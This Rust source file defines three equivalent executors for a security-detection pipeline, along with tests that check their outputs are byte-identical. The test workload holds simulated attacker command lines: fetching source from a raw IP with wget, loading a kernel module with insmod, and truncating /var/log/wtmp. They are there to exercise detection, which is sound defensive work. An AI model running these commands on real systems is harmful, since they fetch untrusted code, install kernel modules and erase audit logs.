//! Executors: three ways to drive one assembled pipeline.
//!
//! All executors consume a [`BuiltPipeline`] and a record stream and
//! produce an **identical** [`StreamReport`]; they differ only in how the
//! stage work is scheduled:
//!
//! - [`run_inline`] — everything in the calling thread, batch by batch.
//! - [`run_threaded`] — one thread per stage (feeder → symbolize → filter
//!   → detect+response), bounded channels carrying *batches* (not single
//!   items) so channel costs amortize.
//! - [`run_sharded`] — threaded, but the detect stage is split into K
//!   per-entity shards driven on the rayon worker pool. Alerts route to
//!   shards by [`Entity::shard_key`](alertlib::alert::Entity::shard_key),
//!   so each entity's session state stays on one shard; outcomes are
//!   re-merged in original stream order, which makes detections,
//!   notifications, retention, and stats byte-identical to the sequential
//!   pass.
//!
//! Equivalence argument: every stage is order-preserving and batch
//! boundaries are unobservable ([`Stage`] contract); the detect stage is
//! per-entity independent with a 1:1 alert→outcome contract, so routing by
//! entity hash and merging by sequence number reconstructs exactly the
//! sequential outcome stream.

use alertlib::alert::Alert;
use alertlib::filter::FilterStats;
use crossbeam::channel::{bounded, Sender};
use detect::correlate::{CampaignCorrelator, CampaignSummary};
use rayon::prelude::*;
use scenario::faults::{FaultInjector, FaultStats};
use serde::{Deserialize, Serialize};
use simnet::time::SimTime;
use telemetry::record::LogRecord;

use crate::report::OperatorNotification;
use crate::stage::adapters::{DetectOutcome, DetectorStage, ResponseStage};
use crate::stage::builder::BuiltPipeline;
use crate::stage::{AlertRetention, Stage};

/// Aggregate counters of a pipeline run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Serialize, Deserialize)]
pub struct StreamStats {
    pub records: u64,
    pub alerts: u64,
    pub admitted: u64,
    pub detections: u64,
}

/// Everything one pipeline run produces, identical across executors.
#[derive(Debug)]
pub struct StreamReport {
    /// Per-stage counters (same meaning as the closed-loop
    /// [`RunReport`](crate::report::RunReport) fields).
    pub stats: StreamStats,
    /// Scan-filter counters.
    pub filter: FilterStats,
    /// Operator notifications raised by the response stage — streaming
    /// runs go through the same BHR-block + notification path as the
    /// simulation sink.
    pub notifications: Vec<OperatorNotification>,
    /// Post-filter alerts retained for analysis (capped, oldest dropped).
    pub retained_alerts: Vec<Alert>,
    /// Alerts not retained because the retention cap was exceeded
    /// (oldest-first evictions). Zero when retention is disabled.
    pub alerts_dropped: u64,
    /// Alerts not retained because retention was disabled (`cap == 0`,
    /// e.g. stats-only runs). Kept apart from `alerts_dropped` so a run
    /// that never intended to retain does not report its whole admitted
    /// volume as drops.
    pub alerts_discarded: u64,
    /// Distinct sources blocked at the BHR by the response stage.
    pub blocked_sources: u64,
    /// Alerts the detector dropped as telemetry re-deliveries (0 unless a
    /// dedup window is configured).
    pub duplicates_suppressed: u64,
    /// Block RPC re-deliveries attempted by the response retry queue.
    pub blocks_retried: u64,
    /// Blocks permanently given up on (attempt cap or deadline hit).
    pub blocks_abandoned: u64,
    /// Notification re-deliveries attempted by the response retry queue.
    pub notifications_retried: u64,
    /// Notifications permanently given up on.
    pub notifications_abandoned: u64,
    /// Fault-injection accounting when the pipeline was built with a
    /// [`FaultPlan`](scenario::faults::FaultPlan); `None` on clean runs.
    /// `stats.records` counts *post-fault* records in either case.
    pub fault: Option<FaultStats>,
    /// Live campaigns stitched by the cross-entity correlator (empty when
    /// correlation is off): campaign ids, member entities, and link
    /// provenance. Identical across executors — the correlator consumes
    /// the merged, order-restored outcome stream.
    pub campaigns: Vec<CampaignSummary>,
    /// Detections promoted by campaign fusion (a subset of
    /// `stats.detections`).
    pub correlated_promotions: u64,
    /// Tagger detections suppressed because the entity had already been
    /// surfaced by a campaign promotion.
    pub correlated_confirmations: u64,
}

/// Correlation surfaces for a [`StreamReport`] from a finished correlator.
fn correlation_report(correlate: &Option<CampaignCorrelator>) -> (Vec<CampaignSummary>, u64, u64) {
    match correlate {
        Some(c) => (c.summaries(), c.promotions(), c.tagger_confirmations()),
        None => (Vec::new(), 0, 0),
    }
}

/// The sequential stage composition, shared by the inline executor and the
/// closed-loop [`PipelineSink`](crate::pipeline::PipelineSink).
pub(crate) struct InlineCore {
    pub(crate) symbolize: crate::stage::adapters::SymbolizeStage,
    pub(crate) filter: crate::stage::adapters::FilterStage,
    pub(crate) detect: DetectorStage,
    pub(crate) correlate: Option<CampaignCorrelator>,
    pub(crate) response: ResponseStage,
    pub(crate) retention: AlertRetention,
    pub(crate) stats: StreamStats,
    pub(crate) notifications: Vec<OperatorNotification>,
    alerts_buf: Vec<Alert>,
    admitted_buf: Vec<Alert>,
    outcomes_buf: Vec<DetectOutcome>,
}

impl InlineCore {
    pub(crate) fn new(p: BuiltPipeline) -> Self {
        InlineCore {
            symbolize: p.symbolize,
            filter: p.filter,
            detect: p.detect,
            correlate: p.correlate,
            response: p.response,
            retention: p.retention,
            stats: StreamStats::default(),
            notifications: Vec::new(),
            alerts_buf: Vec::with_capacity(64),
            admitted_buf: Vec::with_capacity(64),
            outcomes_buf: Vec::with_capacity(64),
        }
    }

    /// Run one record batch through symbolize → filter → detect →
    /// response → retention, updating counters. `prep` runs on each
    /// record just before it is symbolized, in the same pass: the
    /// service worker translates tenant symbols there, every other
    /// caller passes a no-op. `now` is the response timestamp (see
    /// [`ResponseStage::respond`]): the closed-loop sink passes the
    /// engine's event time, record-stream runs pass `None`.
    pub(crate) fn process_records_at(
        &mut self,
        now: Option<SimTime>,
        records: &mut [LogRecord],
        prep: impl FnMut(&mut LogRecord),
    ) {
        self.stats.records += records.len() as u64;
        self.alerts_buf.clear();
        self.symbolize
            .prep_and_process(records, prep, &mut self.alerts_buf);
        self.stats.alerts += self.alerts_buf.len() as u64;
        self.run_tail(now);
    }

    /// Drain windowed stage state at end of stream.
    pub(crate) fn flush(&mut self) {
        self.alerts_buf.clear();
        self.symbolize.flush(&mut self.alerts_buf);
        self.stats.alerts += self.alerts_buf.len() as u64;
        self.run_tail(None);
        self.admitted_buf.clear();
        self.filter.flush(&mut self.admitted_buf);
        self.stats.admitted += self.admitted_buf.len() as u64;
        self.outcomes_buf.clear();
        self.detect
            .process_drain(&mut self.admitted_buf, &mut self.outcomes_buf);
        self.detect.flush(&mut self.outcomes_buf);
        self.finish_outcomes(None);
        self.response.flush(&mut self.notifications);
    }

    /// Filter → detect → response → retention over `alerts_buf`
    /// (drain-based: alerts move through without cloning).
    fn run_tail(&mut self, now: Option<SimTime>) {
        self.admitted_buf.clear();
        self.filter
            .admit_drain(&mut self.alerts_buf, &mut self.admitted_buf);
        self.stats.admitted += self.admitted_buf.len() as u64;
        self.outcomes_buf.clear();
        self.detect
            .process_drain(&mut self.admitted_buf, &mut self.outcomes_buf);
        self.finish_outcomes(now);
    }

    fn finish_outcomes(&mut self, now: Option<SimTime>) {
        finish_outcomes(
            &mut self.outcomes_buf,
            now,
            self.correlate.as_mut(),
            &mut self.response,
            &mut self.retention,
            &mut self.stats.detections,
            &mut self.notifications,
        );
    }

    pub(crate) fn into_report(self) -> StreamReport {
        let (campaigns, correlated_promotions, correlated_confirmations) =
            correlation_report(&self.correlate);
        StreamReport {
            campaigns,
            correlated_promotions,
            correlated_confirmations,
            stats: self.stats,
            filter: self.filter.stats(),
            notifications: self.notifications,
            alerts_dropped: self.retention.dropped(),
            alerts_discarded: self.retention.discarded(),
            blocked_sources: self.response.blocked_sources(),
            duplicates_suppressed: self.detect.duplicates_suppressed(),
            blocks_retried: self.response.blocks_retried(),
            blocks_abandoned: self.response.blocks_abandoned(),
            notifications_retried: self.response.notifications_retried(),
            notifications_abandoned: self.response.notifications_abandoned(),
            fault: None,
            retained_alerts: self.retention.into_vec(),
        }
    }
}

/// The shared pipeline tail every executor runs over ordered detect
/// outcomes: respond (BHR blocks + notifications), count detections,
/// retain alerts. Defined once so the cross-executor byte-identity
/// invariant cannot drift. Drains `outcomes`.
fn finish_outcomes(
    outcomes: &mut Vec<DetectOutcome>,
    now: Option<SimTime>,
    correlator: Option<&mut CampaignCorrelator>,
    response: &mut ResponseStage,
    retention: &mut AlertRetention,
    detections: &mut u64,
    notifications: &mut Vec<OperatorNotification>,
) {
    // Correlation runs on the merged, stream-ordered outcome sequence so
    // every executor sees identical link formation regardless of how the
    // detect stage was parallelised.
    if let Some(c) = correlator {
        for o in outcomes.iter_mut() {
            c.observe(&o.alert, o.attack_score, &mut o.detection);
        }
    }
    response.respond(now, outcomes, notifications);
    for o in outcomes.drain(..) {
        if o.detection.is_some() {
            *detections += 1;
        }
        retention.push(o.alert);
    }
}

/// Sequential executor (the deterministic reference).
pub(crate) fn run_inline<I>(mut p: BuiltPipeline, records: I) -> StreamReport
where
    I: IntoIterator<Item = LogRecord>,
{
    let batch = p.tuning.batch_size.max(1);
    let faults = p.faults.take();
    let mut core = InlineCore::new(p);
    let mut buf: Vec<LogRecord> = Vec::with_capacity(batch);
    let fault = match faults {
        None => {
            for r in records {
                buf.push(r);
                if buf.len() >= batch {
                    core.process_records_at(None, &mut buf, |_| {});
                    buf.clear();
                }
            }
            None
        }
        Some(mut inj) => {
            for r in records {
                inj.push(r, &mut buf);
                if buf.len() >= batch {
                    core.process_records_at(None, &mut buf, |_| {});
                    buf.clear();
                }
            }
            inj.finish(&mut buf);
            Some(inj.stats())
        }
    };
    if !buf.is_empty() {
        core.process_records_at(None, &mut buf, |_| {});
    }
    core.flush();
    let mut report = core.into_report();
    report.fault = fault;
    report
}

/// Feed records into the first channel in batches, pushing them through
/// the fault injector when one is configured. Returns the count of records
/// actually sent downstream (post-fault) plus the fault accounting.
fn feed<I>(
    records: I,
    tx: Sender<Vec<LogRecord>>,
    batch: usize,
    faults: Option<FaultInjector>,
) -> (u64, Option<FaultStats>)
where
    I: IntoIterator<Item = LogRecord>,
{
    let mut n = 0u64;
    let mut buf: Vec<LogRecord> = Vec::with_capacity(batch);
    let send = |buf: &mut Vec<LogRecord>, n: &mut u64| {
        *n += buf.len() as u64;
        tx.send(std::mem::replace(buf, Vec::with_capacity(batch)))
            .is_err()
    };
    let fault = match faults {
        None => {
            for r in records {
                buf.push(r);
                if buf.len() >= batch && send(&mut buf, &mut n) {
                    return (n, None);
                }
            }
            None
        }
        Some(mut inj) => {
            for r in records {
                inj.push(r, &mut buf);
                if buf.len() >= batch && send(&mut buf, &mut n) {
                    return (n, Some(inj.stats()));
                }
            }
            inj.finish(&mut buf);
            Some(inj.stats())
        }
    };
    if !buf.is_empty() {
        n += buf.len() as u64;
        let _ = tx.send(buf);
    }
    (n, fault)
}

/// Threaded executor: one thread per stage, batched bounded channels.
pub(crate) fn run_threaded<I>(p: BuiltPipeline, records: I) -> StreamReport
where
    I: IntoIterator<Item = LogRecord> + Send,
{
    run_staged(p, records, 1)
}

/// Sharded executor: threaded layout with the detect stage partitioned by
/// entity hash into `tuning.shards()` shards on the rayon pool.
pub(crate) fn run_sharded<I>(p: BuiltPipeline, records: I) -> StreamReport
where
    I: IntoIterator<Item = LogRecord> + Send,
{
    let shards = p.tuning.shards().max(1);
    run_staged(p, records, shards)
}

/// Common threaded layout; `shards == 1` degenerates to one detect stage
/// driven in the sink thread.
fn run_staged<I>(p: BuiltPipeline, records: I, shards: usize) -> StreamReport
where
    I: IntoIterator<Item = LogRecord> + Send,
{
    let BuiltPipeline {
        mut symbolize,
        mut filter,
        detect,
        mut correlate,
        mut response,
        mut retention,
        tuning,
        faults,
    } = p;
    let batch = tuning.batch_size.max(1);
    let depth = tuning.channel_batches();
    let (rec_tx, rec_rx) = bounded::<Vec<LogRecord>>(depth);
    let (alert_tx, alert_rx) = bounded::<Vec<Alert>>(depth);
    let (adm_tx, adm_rx) = bounded::<Vec<Alert>>(depth);

    std::thread::scope(|scope| {
        let feeder = scope.spawn(move || feed(records, rec_tx, batch, faults));

        let symbolizing = scope.spawn(move || {
            let mut produced = 0u64;
            let mut staging: Vec<Alert> = Vec::with_capacity(batch);
            for rb in rec_rx {
                let before = staging.len();
                symbolize.process_batch(&rb, &mut staging);
                produced += (staging.len() - before) as u64;
                if staging.len() >= batch
                    && alert_tx
                        .send(std::mem::replace(&mut staging, Vec::with_capacity(batch)))
                        .is_err()
                {
                    return produced;
                }
            }
            let before = staging.len();
            symbolize.flush(&mut staging);
            produced += (staging.len() - before) as u64;
            if !staging.is_empty() {
                let _ = alert_tx.send(staging);
            }
            produced
        });

        let filtering = scope.spawn(move || {
            let mut admitted = 0u64;
            let mut staging: Vec<Alert> = Vec::with_capacity(batch);
            for mut ab in alert_rx {
                let before = staging.len();
                filter.admit_drain(&mut ab, &mut staging);
                admitted += (staging.len() - before) as u64;
                if staging.len() >= batch
                    && adm_tx
                        .send(std::mem::replace(&mut staging, Vec::with_capacity(batch)))
                        .is_err()
                {
                    return (filter, admitted);
                }
            }
            let before = staging.len();
            filter.flush(&mut staging);
            admitted += (staging.len() - before) as u64;
            if !staging.is_empty() {
                let _ = adm_tx.send(staging);
            }
            (filter, admitted)
        });

        let sinking = scope.spawn(move || {
            let mut pool = DetectShards::new(detect, shards);
            let mut detections = 0u64;
            let mut notifications = Vec::new();
            let mut pending: Vec<Alert> = Vec::new();
            for ab in adm_rx {
                pending.extend(ab);
                if pending.len() >= batch {
                    pool.drain(
                        &mut pending,
                        correlate.as_mut(),
                        &mut response,
                        &mut retention,
                        &mut detections,
                        &mut notifications,
                    );
                }
            }
            pool.drain(
                &mut pending,
                correlate.as_mut(),
                &mut response,
                &mut retention,
                &mut detections,
                &mut notifications,
            );
            response.flush(&mut notifications);
            let duplicates = pool.duplicates_suppressed();
            (
                response,
                retention,
                detections,
                notifications,
                duplicates,
                correlate,
            )
        });

        let (records, fault) = feeder.join().expect("feeder thread");
        let alerts = symbolizing.join().expect("symbolize thread");
        let (filter, admitted) = filtering.join().expect("filter thread");
        let (response, retention, detections, notifications, duplicates_suppressed, correlate) =
            sinking.join().expect("detect/response thread");
        let (campaigns, correlated_promotions, correlated_confirmations) =
            correlation_report(&correlate);
        StreamReport {
            campaigns,
            correlated_promotions,
            correlated_confirmations,
            stats: StreamStats {
                records,
                alerts,
                admitted,
                detections,
            },
            filter: filter.stats(),
            notifications,
            alerts_dropped: retention.dropped(),
            alerts_discarded: retention.discarded(),
            blocked_sources: response.blocked_sources(),
            duplicates_suppressed,
            blocks_retried: response.blocks_retried(),
            blocks_abandoned: response.blocks_abandoned(),
            notifications_retried: response.notifications_retried(),
            notifications_abandoned: response.notifications_abandoned(),
            fault,
            retained_alerts: retention.into_vec(),
        }
    })
}

/// K per-entity detector shards with order-restoring merge.
struct DetectShards {
    shards: Vec<DetectorStage>,
    buckets: Vec<Vec<Alert>>,
    seqs: Vec<Vec<usize>>,
}

impl DetectShards {
    fn new(detect: DetectorStage, k: usize) -> Self {
        let k = k.max(1);
        let mut shards = Vec::with_capacity(k);
        for _ in 1..k {
            shards.push(detect.clone());
        }
        shards.push(detect);
        DetectShards {
            buckets: (0..k).map(|_| Vec::new()).collect(),
            seqs: (0..k).map(|_| Vec::new()).collect(),
            shards,
        }
    }

    /// Re-deliveries suppressed across every shard (per-entity state lives
    /// on exactly one shard, so the sum equals the sequential count).
    fn duplicates_suppressed(&self) -> u64 {
        self.shards.iter().map(|s| s.duplicates_suppressed()).sum()
    }

    /// Route `pending` to shards by entity hash, drive every shard (on
    /// the rayon pool when K > 1), merge outcomes back into original
    /// stream order, and run response + retention over them.
    fn drain(
        &mut self,
        pending: &mut Vec<Alert>,
        correlator: Option<&mut CampaignCorrelator>,
        response: &mut ResponseStage,
        retention: &mut AlertRetention,
        detections: &mut u64,
        notifications: &mut Vec<OperatorNotification>,
    ) {
        if pending.is_empty() {
            return;
        }
        let k = self.shards.len();
        let total = pending.len();
        let mut batch_outcomes: Vec<DetectOutcome> = if k == 1 {
            // Single shard (plain threaded executor): no hashing, no
            // bucketing, no merge — just drain straight through.
            let mut out = Vec::with_capacity(total);
            self.shards[0].process_drain(pending, &mut out);
            out
        } else {
            for (i, a) in pending.drain(..).enumerate() {
                let s = (a.entity.shard_key() % k as u64) as usize;
                self.seqs[s].push(i);
                self.buckets[s].push(a);
            }
            let work: Vec<(DetectorStage, Vec<Alert>)> =
                self.shards.drain(..).zip(self.buckets.drain(..)).collect();
            let results: Vec<(DetectorStage, Vec<Alert>, Vec<DetectOutcome>)> = work
                .into_par_iter()
                .map(|(mut stage, mut bucket)| {
                    let mut out = Vec::with_capacity(bucket.len());
                    stage.process_drain(&mut bucket, &mut out);
                    // Hand the emptied bucket back so its capacity is
                    // reused by the next batch.
                    (stage, bucket, out)
                })
                .collect();
            let mut ordered: Vec<Option<DetectOutcome>> = (0..total).map(|_| None).collect();
            for (sidx, (stage, bucket, outs)) in results.into_iter().enumerate() {
                self.shards.push(stage);
                self.buckets.push(bucket);
                for (j, o) in outs.into_iter().enumerate() {
                    ordered[self.seqs[sidx][j]] = Some(o);
                }
            }
            for seq in &mut self.seqs {
                seq.clear();
            }
            ordered
                .into_iter()
                .map(|o| o.expect("detect stages emit exactly one outcome per alert"))
                .collect()
        };
        finish_outcomes(
            &mut batch_outcomes,
            None,
            correlator,
            response,
            retention,
            detections,
            notifications,
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stage::builder::PipelineBuilder;
    use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
    use simnet::time::{SimDuration, SimTime};
    use telemetry::record::{ConnRecord, ProcessRecord};

    fn probe_record(i: u64) -> LogRecord {
        LogRecord::Conn(ConnRecord {
            ts: SimTime::from_secs(i),
            uid: FlowId(i),
            orig_h: "103.102.1.1".parse().unwrap(),
            orig_p: 40_000,
            resp_h: format!("141.142.2.{}", 1 + (i % 250)).parse().unwrap(),
            resp_p: 22,
            proto: Proto::Tcp,
            service: Service::Ssh,
            duration: SimDuration::ZERO,
            orig_bytes: 0,
            resp_bytes: 0,
            conn_state: ConnState::S0,
            direction: Direction::Inbound,
        })
    }

    fn exec_record(t: u64, user: &str, cmdline: &str) -> LogRecord {
        LogRecord::Process(ProcessRecord {
            ts: SimTime::from_secs(t),
            host: simnet::topology::HostId(3),
            hostname: "compute-3".into(),
            user: user.into(),
            pid: 1000 + t as u32,
            ppid: 1,
            exe: "/bin/bash".into(),
            cmdline: cmdline.into(),
        })
    }

    fn workload() -> Vec<LogRecord> {
        let mut records: Vec<LogRecord> = (0..2_000).map(probe_record).collect();
        for (k, user) in ["eve", "mallory", "trudy", "oscar"].iter().enumerate() {
            for (i, cmd) in [
                "wget http://64.215.4.5/abs.c",
                "make -C /lib/modules/4.4/build modules",
                "insmod abs.ko",
                "echo 0>/var/log/wtmp",
            ]
            .iter()
            .enumerate()
            {
                records.push(exec_record(100 + 60 * i as u64 + k as u64, user, cmd));
            }
        }
        records
    }

    fn reports_equal(a: &StreamReport, b: &StreamReport) {
        assert_eq!(a.stats, b.stats);
        assert_eq!(a.filter, b.filter);
        assert_eq!(a.notifications, b.notifications);
        assert_eq!(a.retained_alerts, b.retained_alerts);
        assert_eq!(a.alerts_dropped, b.alerts_dropped);
        assert_eq!(a.alerts_discarded, b.alerts_discarded);
        assert_eq!(a.blocked_sources, b.blocked_sources);
        assert_eq!(a.duplicates_suppressed, b.duplicates_suppressed);
        assert_eq!(a.blocks_retried, b.blocks_retried);
        assert_eq!(a.blocks_abandoned, b.blocks_abandoned);
        assert_eq!(a.notifications_retried, b.notifications_retried);
        assert_eq!(a.notifications_abandoned, b.notifications_abandoned);
        assert_eq!(a.fault, b.fault);
        assert_eq!(a.campaigns, b.campaigns);
        assert_eq!(a.correlated_promotions, b.correlated_promotions);
        assert_eq!(a.correlated_confirmations, b.correlated_confirmations);
    }

    #[test]
    fn three_executors_agree_byte_for_byte() {
        let records = workload();
        let build = || PipelineBuilder::new().batch_size(37).build();
        let inline = build().run_inline(records.clone());
        assert!(inline.stats.detections >= 4, "all four sessions detected");
        assert_eq!(
            inline.notifications.len() as u64,
            inline.stats.detections,
            "streaming runs surface detections as notifications"
        );
        let threaded = build().run_threaded(records.clone());
        reports_equal(&inline, &threaded);
        for shards in [1usize, 2, 7] {
            let sharded = PipelineBuilder::new()
                .batch_size(37)
                .detect_shards(shards)
                .build()
                .run_sharded(records.clone());
            reports_equal(&inline, &sharded);
        }
    }

    #[test]
    fn faulted_executors_agree_byte_for_byte() {
        use scenario::faults::{BlackoutScope, BlackoutWindow, ClockSkewConfig, FaultPlan};
        let records = workload();
        let plan = FaultPlan::clean(0xFA017)
            .named("mixed")
            .with_loss(0.05)
            .with_duplication(0.05)
            .with_reorder(16)
            .with_clock(ClockSkewConfig {
                max_skew: SimDuration::from_secs(5),
                jitter: SimDuration::from_secs(1),
            })
            .with_blackout(BlackoutWindow {
                start: SimTime::from_secs(300),
                end: SimTime::from_secs(600),
                scope: BlackoutScope::All,
            });
        let build = || {
            PipelineBuilder::new()
                .batch_size(37)
                .faults(plan.clone())
                .known_blackouts(plan.blackout_spans())
                .build()
        };
        let inline = build().run_inline(records.clone());
        let stats = inline.fault.as_ref().expect("fault accounting present");
        assert_eq!(stats.records_out, inline.stats.records);
        assert!(stats.records_in > stats.records_out - stats.duplicated);
        let threaded = build().run_threaded(records.clone());
        reports_equal(&inline, &threaded);
        let sharded = PipelineBuilder::new()
            .batch_size(37)
            .detect_shards(5)
            .faults(plan.clone())
            .known_blackouts(plan.blackout_spans())
            .build()
            .run_sharded(records);
        reports_equal(&inline, &sharded);
    }

    #[test]
    fn correlated_executors_agree_byte_for_byte() {
        // The four kernel-module sessions share HostId(3) and an identical
        // cmdline palette, so the correlator links them into one campaign.
        let records = workload();
        let policy = detect::CorrelationPolicy::default();
        let build = || {
            PipelineBuilder::new()
                .batch_size(37)
                .correlation(policy.clone())
                .build()
        };
        let inline = build().run_inline(records.clone());
        assert!(
            !inline.campaigns.is_empty(),
            "shared host/palette workload forms at least one campaign"
        );
        let threaded = build().run_threaded(records.clone());
        reports_equal(&inline, &threaded);
        for shards in [1usize, 2, 7] {
            let sharded = PipelineBuilder::new()
                .batch_size(37)
                .correlation(policy.clone())
                .detect_shards(shards)
                .build()
                .run_sharded(records.clone());
            reports_equal(&inline, &sharded);
        }
    }

    #[test]
    fn retention_cap_applies_in_stream_runs() {
        let records = workload();
        let report = PipelineBuilder::new()
            .alert_retention(3)
            .build()
            .run_inline(records);
        assert_eq!(report.retained_alerts.len(), 3);
        assert_eq!(
            report.alerts_dropped,
            report.stats.admitted - 3,
            "drop-oldest counted"
        );
    }

    #[test]
    fn empty_stream_is_fine_everywhere() {
        for kind in [
            crate::config::ExecutorKind::Inline,
            crate::config::ExecutorKind::Threaded,
            crate::config::ExecutorKind::Sharded,
        ] {
            let report = PipelineBuilder::new()
                .executor(kind)
                .build()
                .run(Vec::<LogRecord>::new());
            assert_eq!(report.stats, StreamStats::default());
            assert!(report.notifications.is_empty());
        }
    }

    /// Retention-off stage components, as a stats-only caller holds them.
    fn stats_only_pipeline() -> BuiltPipeline {
        use alertlib::filter::{FilterConfig, ScanFilter};
        use alertlib::symbolize::{Symbolizer, SymbolizerConfig};
        use detect::attack_tagger::{AttackTagger, TaggerConfig};
        BuiltPipeline::from_stages(
            Symbolizer::new(SymbolizerConfig::default()),
            ScanFilter::new(FilterConfig::default()),
            AttackTagger::new(detect::train::toy_training_model(), TaggerConfig::default()),
            crate::config::PipelineTuning {
                alert_retention: 0,
                ..crate::config::PipelineTuning::default()
            },
        )
    }

    #[test]
    fn empty_input() {
        let report = stats_only_pipeline().run_threaded(Vec::<LogRecord>::new());
        assert_eq!(report.stats, StreamStats::default());
    }

    /// Regression: a stats-only (retention-off) run used to count every
    /// admitted alert as "dropped", reporting huge drop counts in a mode
    /// that never retains. Disabled retention must report discards, not
    /// drops.
    #[test]
    fn stats_only_run_reports_discards_not_drops() {
        let records: Vec<LogRecord> = (0..2_000).map(probe_record).collect();
        let report = stats_only_pipeline().run_threaded(records);
        assert!(report.stats.admitted > 0, "workload admits alerts");
        assert_eq!(
            report.alerts_dropped, 0,
            "retention-off must not report cap drops"
        );
        assert_eq!(
            report.alerts_discarded, report.stats.admitted,
            "every admitted alert accounted as a discard"
        );
        assert!(report.retained_alerts.is_empty());
    }

    #[test]
    fn large_volume_bounded_memory() {
        // 100k probe records flow through bounded channels without
        // accumulating unbounded intermediate vectors.
        let records: Vec<LogRecord> = (0..100_000).map(probe_record).collect();
        let stats = stats_only_pipeline().run_threaded(records).stats;
        assert_eq!(stats.records, 100_000);
        assert!(
            stats.admitted < stats.alerts / 10,
            "filter collapses the flood"
        );
    }
}
